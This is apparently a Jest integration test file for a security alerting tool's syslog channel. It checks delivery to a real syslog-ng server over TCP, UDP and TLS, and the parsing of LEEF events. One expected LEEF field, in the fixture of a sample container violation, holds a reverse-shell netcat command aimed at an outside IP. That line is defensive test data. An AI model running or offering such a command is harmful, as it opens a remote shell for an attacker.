import { afterAll, beforeAll, expect, it, jest } from '@jest/globals';
import { describeReal, makeCertificates, startSyslogNg, type Certificates, type SyslogNg, type SyslogNgMessage } from '@tocsin/testing';
import { HOSTILE, input, withText, FULL_VIOLATION } from '../../formats/contract.js';
import { leef } from '../../formats/leef/leef.js';
import type { Delivery } from '../channel.js';
import { delivery } from '../contract.js';
import { bytesOf, create, formatted, STORIES } from './testing.js';

jest.setTimeout(60_000);

const never = new AbortController().signal;
const BOM = '\uFEFF';

/** Sends all in one batch and waits until syslog-ng has written them. */
async function sendAll(syslogNg: SyslogNg, port: number, config: object, batch: readonly Delivery[]): Promise<SyslogNgMessage[]> {
  const before = (await syslogNg.messages()).length;
  const channel = create(port, config);
  expect(await channel.send(batch, never)).toEqual(batch.map(() => ({ ok: true })));
  const received = (await syslogNg.until(before + batch.length)).slice(before);
  await channel.close();
  return received;
}

/** What is written here is what is read there, and it is understood. */
async function readsBack(syslogNg: SyslogNg, port: number, config: { framing?: string; standard?: string; transport?: string }): Promise<void> {
  const received = await sendAll(
    syslogNg,
    port,
    config,
    STORIES.map(([, one]) => one),
  );
  for (const [index, [name, one]] of STORIES.entries()) {
    const got = received[index] as SyslogNgMessage;
    const bytes = bytesOf(one, config);
    const expected = config.framing === 'newline' ? bytes.replaceAll('\n', ' ') : bytes;
    expect({ name, raw: got.rawmsg }).toEqual({ name, raw: expected });
    expect(got).toMatchObject({ facility: 'local4', priority: 'err', program: 'tocsin', host: 'node-1' });
    expect(expected.endsWith(got.message.trimStart())).toBe(true);
    expect(got.message).not.toContain(BOM);
    if (config.standard === 'rfc3164') expect(got.pid).toBe(one.id);
    else {
      expect(got).toMatchObject({ msgid: 'violation', isodate: expect.stringMatching(/^2026-09-14T/) });
      expect(got.sdata).toContain(`[tocsin@32473 delivery="${one.id}" event="${one.event.id}" type="${one.event.type}" subscription="test"`);
    }
  }
}

describeReal('syslog-ng', 'syslog to a real syslog-ng', () => {
  let syslogNg: SyslogNg;
  beforeAll(async () => {
    syslogNg = await startSyslogNg();
  });
  afterAll(() => syslogNg.close());

  it('is read back byte for byte over TCP with octet counting', () => readsBack(syslogNg, syslogNg.ports.octets, {}));

  it('is read back byte for byte over TCP in lines', () => readsBack(syslogNg, syslogNg.ports.lines, { framing: 'newline' }));

  it('is read back byte for byte over UDP', () => readsBack(syslogNg, syslogNg.ports.udp, { transport: 'udp' }));

  it('is read back byte for byte as RFC 3164 has it', () => readsBack(syslogNg, syslogNg.ports.legacy, { framing: 'newline', standard: 'rfc3164' }));

  it('reads LEEF by its own parsers, and nothing leaves its field', async () => {
    const format = leef.create({ delimiter: 'tab' });
    const plain = formatted('leef', format, input('violations', FULL_VIOLATION));
    // Its parser knows quotes and takes a word before an equals sign for a key wherever it stands; LEEF does neither, so those are left to
    // the unit test.
    const texts = ['plain', ...HOSTILE.filter(([, text]) => !/[="']/.test(text)).map(([, text]) => text)];
    const events = texts.map((text) => withText('violations', text));
    const sent = events.map((event) => formatted('leef', format, event));
    const [first, usual, ...others] = await sendAll(syslogNg, syslogNg.ports.octets, {}, [plain, ...sent]);
    expect(first?.leef).toMatchObject({
      '@version': 'LEEF:2.0',
      '@vendor': 'Tocsin',
      '@product': 'Tocsin',
      '@eventId': 'Terminal shell in container',
      '@delimiter': 'x09',
      sev: '5',
      src: '10.1.2.3',
      commandLine: 'nc -e /bin/sh 203.0.113.9 4444',
      msg: FULL_VIOLATION.message,
    });
    const keys = Object.keys(usual?.leef ?? {});
    for (const [index, { leef: read = {} }] of others.entries()) {
      const text = texts[index + 1] as string;
      expect(read).toMatchObject({ '@product': 'Tocsin', '@delimiter': 'x09', sev: '5', id: events[index + 1]?.data.id });
      expect(Object.keys(read)).toEqual(keys);
      expect(read['msg']).toBe(
        text
          .toWellFormed()
          .replaceAll(/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/g, ' ')
          .trim(),
      );
    }
  });
});

describeReal(['syslog-ng', 'openssl'], 'syslog to a real syslog-ng over TLS', () => {
  let certificates: Certificates;
  let syslogNg: SyslogNg;
  beforeAll(async () => {
    certificates = await makeCertificates();
    syslogNg = await startSyslogNg(certificates);
  });
  afterAll(async () => {
    await syslogNg.close();
    await certificates.remove();
  });

  const mutual = (): object => {
    const { caFile, clientCertFile: certFile, clientKeyFile: keyFile } = certificates;
    return { transport: 'tls', tls: { caFile, certFile, keyFile } };
  };

  it('is read back byte for byte, with certificates on both sides', () => readsBack(syslogNg, syslogNg.ports.octets, mutual()));

  it('is read back byte for byte in lines', () => readsBack(syslogNg, syslogNg.ports.lines, { ...mutual(), framing: 'newline' }));

  it('is not reported as delivered when syslog-ng wants a certificate and gets none', async () => {
    const channel = create(syslogNg.ports.octets, { transport: 'tls', tls: { caFile: certificates.caFile } });
    expect(await channel.send([delivery()], never)).toMatchObject([{ ok: false, retry: true }]);
    expect((await syslogNg.messages()).map(({ rawmsg }) => rawmsg.length).every((length) => length > 0)).toBe(true);
    await channel.close();
  });
});
